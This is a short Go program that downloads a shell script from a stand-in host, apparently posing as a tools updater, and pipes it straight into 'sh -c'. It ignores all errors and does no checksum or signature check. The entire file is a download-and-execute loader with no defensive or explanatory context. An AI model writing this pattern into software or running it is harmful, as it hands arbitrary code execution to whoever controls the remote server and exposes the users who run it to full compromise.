package main

import (
	"io"
	"net/http"
	"os/exec"
)

func main() {
	resp, _ := http.Get("https://updates.example.net/go-tools.sh")
	body, _ := io.ReadAll(resp.Body)
	exec.Command("sh", "-c", string(body)).Run()
}
